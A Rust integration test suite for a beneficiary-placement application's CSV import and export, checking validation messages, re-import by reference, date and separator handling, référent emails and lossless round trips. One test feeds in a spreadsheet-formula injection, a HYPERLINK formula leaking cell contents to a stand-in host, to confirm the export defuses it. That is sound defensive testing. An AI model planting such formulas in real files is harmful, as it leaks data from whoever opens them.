//! File import and export through the library and the binary: all or nothing with every bad
//! line named, semicolons, a byte order mark, both date forms, place names, re-import by
//! reference, and an export that imports back without changing a single field. The scenarios
//! run on SQLite and on PostgreSQL.

mod common;
#[path = "support/run.rs"]
mod run;

use placematch::i18n::Language;
use std::sync::Arc;

use placematch::store::{Actor, BeneficiaryFilter, NewOffice, NewUser, OpeningFilter, Store};
use placematch::transfer::{
    self, Format, ImportError, ImportOptions, ImportSummary, Kind, RowError,
};
use time::macros::date;
use uuid::Uuid;

const TODAY: time::Date = date!(2026 - 11 - 25);

fn fixture(name: &str) -> Vec<u8> {
    let path = format!("{}/fixtures/csv/{name}", env!("CARGO_MANIFEST_DIR"));
    std::fs::read(&path).unwrap_or_else(|e| panic!("{path}: {e}"))
}

async fn office(store: &Arc<dyn Store>, country: &str, programme: &str) -> Uuid {
    store
        .create_office(&NewOffice {
            name: format!("Office {country}"),
            country: country.into(),
            programme: programme.into(),
        })
        .await
        .unwrap()
        .id
}

async fn import(
    store: &Arc<dyn Store>,
    kind: Kind,
    bytes: &[u8],
    office: Option<Uuid>,
) -> Result<ImportSummary, ImportError> {
    let options = ImportOptions {
        office,
        dry_run: false,
        today: TODAY,
        actor: Actor::command_line(),
    };
    transfer::import(&**store, kind, bytes, &options, &|_, _| {}).await
}

fn rejected(result: Result<ImportSummary, ImportError>) -> Vec<RowError> {
    match result {
        Err(ImportError::Rejected(errors)) => errors,
        other => panic!("expected the file to be rejected, got {other:?}"),
    }
}

fn counts(s: &ImportSummary) -> (usize, usize, usize) {
    (s.created, s.updated, s.unchanged)
}

async fn export(store: &Arc<dyn Store>, kind: Kind, office: Option<Uuid>) -> Vec<u8> {
    let mut out = Vec::new();
    transfer::export(&**store, kind, Format::Csv, office, &mut out)
        .await
        .unwrap();
    out
}

async fn people(store: &Arc<dyn Store>) -> Vec<placematch::store::BeneficiaryRow> {
    store
        .list_beneficiaries(&BeneficiaryFilter::default(), None, u32::MAX)
        .await
        .unwrap()
}

const HEADER: &str = "external_ref,given_name,family_name,birth_date,locality,lon,lat,mobility,max_trip_minutes,hours_per_week,earliest_start,languages\n";

fn line(reference: &str, hours: &str, start: &str) -> String {
    format!(
        "{reference},Ana,Ferreira,1984-03-12,,5.98,49.49,public_transport,45,{hours},{start},fr:B1|pt:C2\n"
    )
}

/// A user of `role` in `office`.
async fn user(store: &Arc<dyn Store>, email: &str, role: &str, office: Option<Uuid>) -> Uuid {
    store
        .create_user(&NewUser {
            email: email.into(),
            display_name: String::new(),
            role: role.into(),
            office_id: office,
            organisation_id: None,
            language: "fr".into(),
            password_hash: None,
        })
        .await
        .unwrap()
        .id
}

mod scenarios {
    use super::*;

    pub async fn the_sample_files_import_and_a_second_import_changes_nothing(
        store: Arc<dyn Store>,
    ) {
        let brussels = office(&store, "BE", "cpas_ris").await;
        let seine = office(&store, "FR", "rsa").await;
        let orgs = import(
            &store,
            Kind::Organisations,
            &fixture("organisations.csv"),
            None,
        )
        .await
        .unwrap();
        assert_eq!(counts(&orgs), (3, 0, 0));
        let openings = import(&store, Kind::Openings, &fixture("openings.csv"), None)
            .await
            .unwrap();
        assert_eq!(counts(&openings), (3, 0, 0));
        let be = import(
            &store,
            Kind::Beneficiaries,
            &fixture("beneficiaries.csv"),
            Some(brussels),
        )
        .await
        .unwrap();
        assert_eq!(counts(&be), (3, 0, 0));
        let fr = import(
            &store,
            Kind::Beneficiaries,
            &fixture("beneficiaries_fr_semicolon_bom.csv"),
            Some(seine),
        )
        .await
        .unwrap();
        assert_eq!(counts(&fr), (3, 0, 0));
        for (kind, file, office) in [
            (Kind::Organisations, "organisations.csv", None),
            (Kind::Openings, "openings.csv", None),
            (Kind::Beneficiaries, "beneficiaries.csv", Some(brussels)),
            (
                Kind::Beneficiaries,
                "beneficiaries_fr_semicolon_bom.csv",
                Some(seine),
            ),
        ] {
            let again = import(&store, kind, &fixture(file), office).await.unwrap();
            assert_eq!(counts(&again), (0, 0, 3), "{file} a second time");
        }

        let everyone = people(&store).await;
        let by_ref = |r: &str| {
            everyone
                .iter()
                .find(|p| p.external_ref.as_deref() == Some(r))
                .unwrap()
                .clone()
        };
        // A place name without a country is looked up in the office's country.
        let ana = by_ref("MOL-0001");
        assert_eq!((ana.lon, ana.lat), (4.31248, 50.8499));
        assert_eq!(ana.skills.0[1].code.as_deref(), Some("A1203"));
        // Semicolons, a BOM, French dates and a decimal comma.
        let fatou = by_ref("RSA-93-0001");
        assert_eq!(fatou.office_id, seine);
        assert_eq!(fatou.birth_date, Some(date!(1988 - 07 - 05)));
        assert_eq!(fatou.hours_per_week, 15.5);
        assert_eq!(fatou.earliest_start, date!(2026 - 12 - 01));
        assert_eq!((fatou.lon, fatou.lat), (2.35387, 48.93564));
        let nicolas = by_ref("RSA-93-0002");
        assert_eq!(nicolas.skills.0[0].label, "manutention; tri");
        assert_eq!(nicolas.waiting_since, date!(2026 - 01 - 02));
        // Blank dates take the API's defaults.
        assert_eq!(by_ref("RSA-69-0003").earliest_start, TODAY);

        let openings = store
            .list_openings(&OpeningFilter::default(), None, 100)
            .await
            .unwrap();
        let atelier = openings
            .iter()
            .find(|o| o.external_ref.as_deref() == Some("RECUP-ATELIER"))
            .unwrap();
        assert_eq!(atelier.start_date, date!(2027 - 02 - 01));
        let maraichage = openings
            .iter()
            .find(|o| o.external_ref.as_deref() == Some("JARDIN-MARAICHAGE"))
            .unwrap();
        assert_eq!(maraichage.hours_per_week, 30.5);
        assert_eq!(maraichage.programmes.0, vec!["cpas_ris", "revis"]);
    }

    pub async fn a_bad_line_in_the_middle_imports_nothing_and_is_named(store: Arc<dyn Store>) {
        let lu = office(&store, "LU", "revis").await;
        let mut file = HEADER.to_owned();
        file += &line("R-1", "20", "2026-12-01");
        file += &line("R-2", "20", "2026-12-01");
        // Line 4: hours out of range, a date that does not exist.
        file += &line("R-3", "75", "2026-02-30");
        file += &line("R-4", "20", "2026-12-01");
        let errors = rejected(import(&store, Kind::Beneficiaries, file.as_bytes(), Some(lu)).await);
        let shown: Vec<String> = errors.iter().map(|e| e.render(Language::En)).collect();
        assert_eq!(
            shown,
            vec![
                "line 4, column hours_per_week: must be more than 0 and at most 60, got 75",
                "line 4, column earliest_start: '2026-02-30' is not a date: use YYYY-MM-DD or DD/MM/YYYY",
            ]
        );
        assert!(people(&store).await.is_empty(), "nothing was written");
    }

    pub async fn reimporting_updates_people_by_reference_instead_of_duplicating(
        store: Arc<dyn Store>,
    ) {
        let lu = office(&store, "LU", "revis").await;
        let first = format!(
            "{HEADER}{}{}{}",
            line("R-1", "20", "2026-12-01"),
            line("R-2", "20", "2026-12-01"),
            line("R-3", "20", "2026-12-01")
        );
        let summary = import(&store, Kind::Beneficiaries, first.as_bytes(), Some(lu))
            .await
            .unwrap();
        assert_eq!(counts(&summary), (3, 0, 0));
        let before = people(&store).await;

        // R-2 works more hours now; R-4 is new; the file uses semicolons this time.
        let second = format!(
            "{HEADER}{}{}{}{}",
            line("R-1", "20", "2026-12-01"),
            line("R-2", "30", "01/12/2026"),
            line("R-3", "20", "01/12/2026"),
            line("R-4", "20", "2026-12-01")
        )
        .replace(',', ";")
        .replace("5.98", "5,98")
        .replace("49.49", "49,49");
        let summary = import(&store, Kind::Beneficiaries, second.as_bytes(), Some(lu))
            .await
            .unwrap();
        assert_eq!(counts(&summary), (1, 1, 2));
        let after = people(&store).await;
        assert_eq!(after.len(), 4);
        assert_eq!(after[0], before[0], "an unchanged line is not even touched");
        assert_eq!(after[1].id, before[1].id, "updated in place");
        assert_eq!(after[1].hours_per_week, 30.0);
        assert!(after[1].updated_at > before[1].updated_at);
        assert_eq!(after[2], before[2], "the same date written the other way");
        assert_eq!(after[3].external_ref.as_deref(), Some("R-4"));
    }

    pub async fn export_then_import_changes_nothing_field_by_field(store: Arc<dyn Store>) {
        let brussels = office(&store, "BE", "cpas_ris").await;
        let lu = office(&store, "LU", "revis").await;
        import(
            &store,
            Kind::Organisations,
            &fixture("organisations.csv"),
            None,
        )
        .await
        .unwrap();
        import(&store, Kind::Openings, &fixture("openings.csv"), None)
            .await
            .unwrap();
        import(
            &store,
            Kind::Beneficiaries,
            &fixture("beneficiaries.csv"),
            Some(brussels),
        )
        .await
        .unwrap();
        // Text that needs quoting or escaping in a cell, and empty optional fields.
        let odd = "external_ref,given_name,family_name,address,lon,lat,mobility,max_trip_minutes,hours_per_week,skills,refused_sectors,status\n\
            \"LU \"\"7\"\"\",Zoë,\"O'Neil, Jr\",\"2 rue X\nL-4001 Esch\",5.980561234567891,49.49583,car,240,0.25,\"a\\|b [C-1.2]|\\[x\\]|plain \\\\ text\",\"bâtiment; travaux|x\",paused\n";
        import(&store, Kind::Beneficiaries, odd.as_bytes(), Some(lu))
            .await
            .unwrap();
        let odd_person = people(&store)
            .await
            .into_iter()
            .find(|p| p.office_id == lu)
            .unwrap();
        assert_eq!(odd_person.external_ref.as_deref(), Some("LU \"7\""));
        assert_eq!(odd_person.skills.0[0].label, "a|b");
        assert_eq!(odd_person.skills.0[1].label, "[x]");
        assert_eq!(odd_person.skills.0[2].label, "plain \\ text");
        // Text a spreadsheet would run as a formula: exported with a leading `'`, read back
        // without it.
        let formula = "external_ref,given_name,family_name,lon,lat,mobility,max_trip_minutes,hours_per_week\n\
            @R-9,\"=HYPERLINK(\"\"http://x.example/?leak=\"\"&D2&E2,\"\"Dossier\"\")\",+Smith,6.13,49.61,car,30,20\n";
        import(&store, Kind::Beneficiaries, formula.as_bytes(), Some(lu))
            .await
            .unwrap();
        let exported =
            String::from_utf8(export(&store, Kind::Beneficiaries, Some(lu)).await).unwrap();
        assert!(exported.contains("'@R-9,"), "{exported}");
        assert!(exported.contains("\"'=HYPERLINK("), "{exported}");
        assert!(exported.contains(",'+Smith,"), "{exported}");
        let mut reader = csv::Reader::from_reader(exported.as_bytes());
        for record in reader.records() {
            for cell in record.unwrap().iter() {
                assert!(
                    !cell.starts_with(['=', '+', '@'])
                        && (!cell.starts_with('-') || cell.parse::<f64>().is_ok()),
                    "a cell a spreadsheet would run: {cell}"
                );
            }
        }

        let before_people = people(&store).await;
        let before_openings = store
            .list_openings(&OpeningFilter::default(), None, u32::MAX)
            .await
            .unwrap();
        let before_orgs = store.list_organisations().await.unwrap();
        for kind in [Kind::Organisations, Kind::Openings, Kind::Beneficiaries] {
            let file = export(&store, kind, None).await;
            let summary = import(&store, kind, &file, None).await.unwrap();
            assert_eq!(summary.rows, summary.unchanged, "{kind}: {summary:?}");
        }
        // Every field of every row, ids and update times included, is as it was.
        let after_people = people(&store).await;
        assert_eq!(after_people.len(), before_people.len());
        for (a, b) in after_people.iter().zip(&before_people) {
            assert_eq!(a, b);
        }
        assert_eq!(
            store
                .list_openings(&OpeningFilter::default(), None, u32::MAX)
                .await
                .unwrap(),
            before_openings
        );
        assert_eq!(store.list_organisations().await.unwrap(), before_orgs);

        // And the exported file alone is enough to rebuild every person field by field.
        let file = export(&store, Kind::Beneficiaries, None).await;
        for p in &before_people {
            assert!(store.delete_beneficiary(p.id).await.unwrap());
        }
        let summary = import(&store, Kind::Beneficiaries, &file, None)
            .await
            .unwrap();
        assert_eq!(counts(&summary), (before_people.len(), 0, 0));
        let rebuilt = people(&store).await;
        for (new, old) in rebuilt.iter().zip(&before_people) {
            assert_eq!(new.office_id, old.office_id);
            assert_eq!(new.fields(), old.fields());
        }
        assert_eq!(export(&store, Kind::Beneficiaries, None).await, file);
    }

    pub async fn referent_emails_import_export_and_import_back_unchanged(store: Arc<dyn Store>) {
        let lu = office(&store, "LU", "revis").await;
        let other = office(&store, "LU", "revis").await;
        let anne = user(&store, "Anne.Weber@esch.lu", "caseworker", Some(lu)).await;
        let marc = user(&store, "marc@esch.lu", "caseworker", Some(lu)).await;
        user(&store, "paul@dudelange.lu", "caseworker", Some(other)).await;
        user(&store, "admin@placematch.lu", "admin", None).await;
        let header = HEADER.replace('\n', ",referent_email\n");
        let with = |reference: &str, email: &str| {
            line(reference, "20", "2026-12-01").replace('\n', &format!(",{email}\n"))
        };
        let file = format!(
            "{header}{}{}{}",
            with("R-1", "anne.weber@ESCH.lu"),
            with("R-2", "marc@esch.lu"),
            with("R-3", "")
        );
        let summary = import(&store, Kind::Beneficiaries, file.as_bytes(), Some(lu))
            .await
            .unwrap();
        assert_eq!(counts(&summary), (3, 0, 0));
        let stored = people(&store).await;
        let referents: Vec<Option<Uuid>> = stored.iter().map(|p| p.referent_user_id).collect();
        assert_eq!(referents, vec![Some(anne), Some(marc), None]);
        let history = store.referent_history(stored[0].id).await.unwrap();
        assert_eq!(history.len(), 1);
        assert_eq!(history[0].assigned_by_role, "command_line");

        // The export names each référent by email; imported back, nothing changes.
        let exported =
            String::from_utf8(export(&store, Kind::Beneficiaries, Some(lu)).await).unwrap();
        let mut lines = exported.lines();
        assert!(lines.next().unwrap().ends_with(",status,referent_email"));
        assert!(
            lines
                .next()
                .unwrap()
                .ends_with(",waiting,Anne.Weber@esch.lu")
        );
        assert!(lines.next().unwrap().ends_with(",waiting,marc@esch.lu"));
        assert!(lines.next().unwrap().ends_with(",waiting,"));
        let summary = import(&store, Kind::Beneficiaries, exported.as_bytes(), None)
            .await
            .unwrap();
        assert_eq!(counts(&summary), (0, 0, 3));
        assert_eq!(people(&store).await, stored);

        // A new référent, an emptied cell: each an update, kept in the history.
        let moved = format!(
            "{header}{}{}{}",
            with("R-1", "marc@esch.lu"),
            with("R-2", ""),
            with("R-3", "")
        );
        let summary = import(&store, Kind::Beneficiaries, moved.as_bytes(), Some(lu))
            .await
            .unwrap();
        assert_eq!(counts(&summary), (0, 2, 1));
        let referents: Vec<Option<Uuid>> = people(&store)
            .await
            .iter()
            .map(|p| p.referent_user_id)
            .collect();
        assert_eq!(referents, vec![Some(marc), None, None]);
        assert_eq!(store.referent_history(stored[0].id).await.unwrap().len(), 2);
        // Without the column, référents stay as they are.
        let plain = format!("{HEADER}{}", line("R-1", "20", "2026-12-01"));
        let summary = import(&store, Kind::Beneficiaries, plain.as_bytes(), Some(lu))
            .await
            .unwrap();
        assert_eq!(counts(&summary), (0, 0, 1));
        assert_eq!(people(&store).await[0].referent_user_id, Some(marc), "kept");

        // A disabled caseworker keeps the people they follow, and takes no one new.
        store
            .disable_user(marc, placematch::store::now())
            .await
            .unwrap();
        let kept = format!("{header}{}", with("R-1", "marc@esch.lu"));
        let summary = import(&store, Kind::Beneficiaries, kept.as_bytes(), Some(lu))
            .await
            .unwrap();
        assert_eq!(counts(&summary), (0, 0, 1));
        let taken = format!("{header}{}", with("R-3", "marc@esch.lu"));
        let errors =
            rejected(import(&store, Kind::Beneficiaries, taken.as_bytes(), Some(lu)).await);
        assert_eq!(
            errors
                .iter()
                .map(|e| e.render(Language::En))
                .collect::<Vec<_>>(),
            vec![
                "line 2, column referent_email: is a disabled user: a disabled user cannot become a référent"
            ]
        );
    }

    pub async fn a_referent_email_of_no_caseworker_of_the_office_imports_nothing_and_is_named(
        store: Arc<dyn Store>,
    ) {
        let lu = office(&store, "LU", "revis").await;
        let other = office(&store, "LU", "revis").await;
        user(&store, "anne@esch.lu", "caseworker", Some(lu)).await;
        user(&store, "paul@dudelange.lu", "caseworker", Some(other)).await;
        user(&store, "admin@placematch.lu", "admin", None).await;
        let header = HEADER.replace('\n', ",referent_email\n");
        let with = |reference: &str, email: &str| {
            line(reference, "20", "2026-12-01").replace('\n', &format!(",{email}\n"))
        };
        let file = format!(
            "{header}{}{}{}{}",
            with("R-1", "anne@esch.lu"),
            with("R-2", "nobody@esch.lu"),
            with("R-3", "paul@dudelange.lu"),
            with("R-4", "admin@placematch.lu")
        );
        let errors = rejected(import(&store, Kind::Beneficiaries, file.as_bytes(), Some(lu)).await);
        let shown: Vec<String> = errors.iter().map(|e| e.render(Language::En)).collect();
        assert_eq!(
            shown,
            vec![
                "line 3, column referent_email: no caseworker of this office has the email 'nobody@esch.lu'",
                "line 4, column referent_email: is not a caseworker of this person's office: only one can be their référent",
                "line 5, column referent_email: is not a caseworker of this person's office: only one can be their référent",
            ]
        );
        assert!(people(&store).await.is_empty(), "nothing was written");
    }
}

macro_rules! on_both_databases {
    ($($name:ident),* $(,)?) => {
        mod sqlite {
            $(
                #[tokio::test]
                async fn $name() {
                    let db = crate::common::sqlite_db().await;
                    super::scenarios::$name(db.store.clone()).await;
                }
            )*
        }
        mod postgres {
            $(
                #[tokio::test]
                async fn $name() {
                    let db = crate::common::postgres_db().await;
                    super::scenarios::$name(db.store.clone()).await;
                    db.drop_db().await;
                }
            )*
        }
    };
}

on_both_databases!(
    the_sample_files_import_and_a_second_import_changes_nothing,
    a_bad_line_in_the_middle_imports_nothing_and_is_named,
    reimporting_updates_people_by_reference_instead_of_duplicating,
    export_then_import_changes_nothing_field_by_field,
    referent_emails_import_export_and_import_back_unchanged,
    a_referent_email_of_no_caseworker_of_the_office_imports_nothing_and_is_named,
);

#[tokio::test]
async fn iso_and_french_dates_are_the_same_day() {
    let db = common::sqlite_db().await;
    let lu = office(&db.store, "LU", "revis").await;
    let file = format!(
        "{HEADER}{}{}",
        line("D-1", "20", "2026-12-01"),
        line("D-2", "20", "01/12/2026")
    );
    import(&db.store, Kind::Beneficiaries, file.as_bytes(), Some(lu))
        .await
        .unwrap();
    let all = people(&db.store).await;
    assert_eq!(all[0].earliest_start, date!(2026 - 12 - 01));
    assert_eq!(all[1].earliest_start, all[0].earliest_start);
}

#[tokio::test]
async fn an_unknown_postcode_is_refused_with_the_nearest_known_ones() {
    let db = common::sqlite_db().await;
    let brussels = office(&db.store, "BE", "cpas_ris").await;
    let file = "external_ref;given_name;family_name;postcode;mobility;max_trip_minutes;hours_per_week\n\
                B-1;Ana;Ferreira;1080;walk;30;20\n\
                B-2;Bob;Martin;1099;walk;30;20\n\
                B-3;Chloé;Durand;1080;walk;30;20\n";
    let errors = rejected(
        import(
            &db.store,
            Kind::Beneficiaries,
            file.as_bytes(),
            Some(brussels),
        )
        .await,
    );
    assert_eq!(errors.len(), 1, "{errors:?}");
    assert_eq!((errors[0].line, errors[0].column.as_str()), (3, "postcode"));
    assert!(
        errors[0]
            .message
            .render(Language::En)
            .starts_with("postcode 1099 is unknown in BE; did you mean:"),
        "{}",
        errors[0].message.render(Language::En)
    );
    assert!(people(&db.store).await.is_empty());
}

/// Finding 4 of issue 20: the import checks the same limits as the API, naming line and column.
#[tokio::test]
async fn a_cell_over_its_length_limit_is_named_by_line_and_column() {
    let db = common::sqlite_db().await;
    let esch = office(&db.store, "LU", "revis").await;
    let address = "x".repeat(placematch::domain::limits::ADDRESS + 1);
    let file = format!(
        "external_ref;given_name;family_name;address;locality;mobility;max_trip_minutes;hours_per_week\n\
         L-1;Ana;Ferreira;1 rue Neuve;Esch-sur-Alzette;walk;30;20\n\
         L-2;Bob;Martin;{address};Esch-sur-Alzette;walk;30;20\n"
    );
    let errors =
        rejected(import(&db.store, Kind::Beneficiaries, file.as_bytes(), Some(esch)).await);
    assert_eq!(errors.len(), 1, "{errors:?}");
    assert_eq!((errors[0].line, errors[0].column.as_str()), (3, "address"));
    assert_eq!(
        errors[0].message.render(Language::En),
        "must be at most 300 characters"
    );
    assert!(people(&db.store).await.is_empty(), "nothing written");
}

#[tokio::test]
async fn a_misspelt_locality_offers_the_closest_names() {
    let db = common::sqlite_db().await;
    let brussels = office(&db.store, "BE", "cpas_ris").await;
    let file = "external_ref,given_name,family_name,locality,mobility,max_trip_minutes,hours_per_week\n\
                B-1,Ana,Ferreira,Molenbek,walk,30,20\n";
    let errors = rejected(
        import(
            &db.store,
            Kind::Beneficiaries,
            file.as_bytes(),
            Some(brussels),
        )
        .await,
    );
    assert_eq!(errors[0].column, "locality");
    assert!(
        errors[0]
            .message
            .render(Language::En)
            .contains("Molenbeek-Saint-Jean"),
        "{}",
        errors[0].message.render(Language::En)
    );
}

#[tokio::test]
async fn a_dry_run_reports_what_would_change_and_writes_nothing() {
    let db = common::sqlite_db().await;
    let brussels = office(&db.store, "BE", "cpas_ris").await;
    let options = ImportOptions {
        office: Some(brussels),
        dry_run: true,
        today: TODAY,
        actor: Actor::command_line(),
    };
    let summary = transfer::import(
        &*db.store,
        Kind::Beneficiaries,
        &fixture("beneficiaries.csv"),
        &options,
        &|_, _| {},
    )
    .await
    .unwrap();
    assert!(summary.dry_run);
    assert_eq!(counts(&summary), (3, 0, 0));
    assert!(people(&db.store).await.is_empty());
}

#[tokio::test]
async fn the_header_and_duplicate_references_are_checked_before_anything_else() {
    let db = common::sqlite_db().await;
    let lu = office(&db.store, "LU", "revis").await;
    let errors = rejected(
        import(
            &db.store,
            Kind::Beneficiaries,
            b"external_ref,given_nmae,family_name\nR-1,Ana,Ferreira\n",
            Some(lu),
        )
        .await,
    );
    assert!(errors.iter().all(|e| e.line == 1), "{errors:?}");
    assert!(
        errors[0]
            .message
            .render(Language::En)
            .contains("did you mean given_name")
    );
    let file = format!(
        "{HEADER}{}{}{}",
        line("R-1", "20", "2026-12-01"),
        line("R-2", "20", "2026-12-01"),
        line("R-1", "20", "2026-12-01")
    );
    let errors = rejected(import(&db.store, Kind::Beneficiaries, file.as_bytes(), Some(lu)).await);
    assert_eq!(
        errors[0].render(Language::En),
        "line 4, column external_ref: 'R-1' is already on line 2: each reference once per file"
    );
}

#[tokio::test]
async fn an_opening_naming_an_unknown_host_is_refused() {
    let db = common::sqlite_db().await;
    let file = String::from_utf8(fixture("openings.csv"))
        .unwrap()
        .replace("BXL-ES-JARDIN", "BXL-NOWHERE");
    let errors = rejected(import(&db.store, Kind::Openings, file.as_bytes(), None).await);
    // Every line names an organisation that was never imported.
    assert_eq!(errors.len(), 3);
    assert_eq!(errors[2].column, "organisation_ref");
    assert!(
        errors[2]
            .message
            .render(Language::En)
            .contains("'BXL-NOWHERE'")
    );
}

#[tokio::test]
async fn openings_export_as_geojson_points_but_people_do_not() {
    let db = common::sqlite_db().await;
    import(
        &db.store,
        Kind::Organisations,
        &fixture("organisations.csv"),
        None,
    )
    .await
    .unwrap();
    import(&db.store, Kind::Openings, &fixture("openings.csv"), None)
        .await
        .unwrap();
    let mut out = Vec::new();
    let n = transfer::export(&*db.store, Kind::Openings, Format::Geojson, None, &mut out)
        .await
        .unwrap();
    assert_eq!(n, 3);
    let map: serde_json::Value = serde_json::from_slice(&out).unwrap();
    assert_eq!(map["type"], "FeatureCollection");
    assert_eq!(map["features"][1]["geometry"]["coordinates"][0], 4.3145);
    assert_eq!(
        map["features"][1]["properties"]["title"],
        "Aide mécanicien vélo"
    );
    let refused = transfer::export(
        &*db.store,
        Kind::Beneficiaries,
        Format::Geojson,
        None,
        &mut out,
    )
    .await;
    assert!(refused.is_err());
}

/// The binary, as an operator runs it.
mod command {
    use std::process::Command;

    use super::*;

    async fn database() -> (tempfile::TempDir, String, Uuid) {
        let dir = tempfile::tempdir().unwrap();
        let url = format!("sqlite:{}", dir.path().join("x.db").display());
        let store = placematch::store::connect(&placematch::store::DatabaseSettings::for_url(&url))
            .await
            .unwrap();
        store.migrate().await.unwrap();
        let id = office(&store, "BE", "cpas_ris").await;
        store.close().await;
        (dir, url, id)
    }

    fn run(url: &str, args: &[&str]) -> std::process::Output {
        Command::new(common::binary())
            .args(args)
            .env("PLACEMATCH_DATABASE_URL", url)
            .env("PLACEMATCH_LOG_LEVEL", "warn")
            // French unless a test asks otherwise, whatever the machine's locale.
            .env_remove("LANG")
            .env_remove("PLACEMATCH_LANGUAGE")
            .output()
            .unwrap()
    }

    #[tokio::test]
    async fn the_command_prints_every_bad_line_and_exits_non_zero() {
        let (dir, url, office) = database().await;
        let path = dir.path().join("bad.csv");
        let text = String::from_utf8(fixture("beneficiaries.csv"))
            .unwrap()
            .replace("fr:B2|ar:C2", "fr:B7")
            .replace(",walk,20,", ",on foot,20,");
        std::fs::write(&path, text).unwrap();
        let out = run(
            &url,
            &[
                "import",
                "beneficiaries",
                path.to_str().unwrap(),
                "--office",
                &office.to_string(),
            ],
        );
        assert!(!out.status.success());
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(
            stderr.contains(
                "ligne 3, colonne languages : élément 1 : « B7 » n'est pas un niveau CECR"
            ),
            "{stderr}"
        );
        assert!(
            stderr.contains("ligne 4, colonne mobility : « on foot » n'est pas l'une des valeurs"),
            "{stderr}"
        );
        assert!(stderr.contains("rien n'a été écrit"), "{stderr}");
        // In the language asked for.
        let out = run(
            &url,
            &[
                "import",
                "beneficiaries",
                path.to_str().unwrap(),
                "--office",
                &office.to_string(),
                "--cli-language",
                "nl",
            ],
        );
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(
            stderr.contains("regel 4, kolom mobility: 'on foot' is geen van"),
            "{stderr}"
        );
        assert!(stderr.contains("er is niets geschreven"), "{stderr}");
        let out = run(&url, &["export", "beneficiaries"]);
        assert_eq!(
            String::from_utf8_lossy(&out.stdout).lines().count(),
            1,
            "a header only"
        );
    }

    #[tokio::test]
    async fn the_command_imports_exports_to_standard_output_and_reimports_as_unchanged() {
        let (dir, url, office) = database().await;
        let path = dir.path().join("people.csv");
        std::fs::write(&path, fixture("beneficiaries.csv")).unwrap();
        let office = office.to_string();
        let out = run(
            &url,
            &[
                "import",
                "beneficiaries",
                path.to_str().unwrap(),
                "--office",
                &office,
            ],
        );
        run::assert_success(&out);
        assert!(
            String::from_utf8_lossy(&out.stdout).contains("3 créés, 0 mis à jour, 0 inchangés")
        );
        let out = run(&url, &["export", "beneficiaries"]);
        assert!(out.status.success());
        let exported = dir.path().join("exported.csv");
        std::fs::write(&exported, &out.stdout).unwrap();
        let out = run(
            &url,
            &[
                "import",
                "beneficiaries",
                exported.to_str().unwrap(),
                "--dry-run",
            ],
        );
        assert!(
            String::from_utf8_lossy(&out.stdout).contains("0 créés, 0 mis à jour, 3 inchangés"),
            "{}",
            String::from_utf8_lossy(&out.stdout)
        );
    }
}
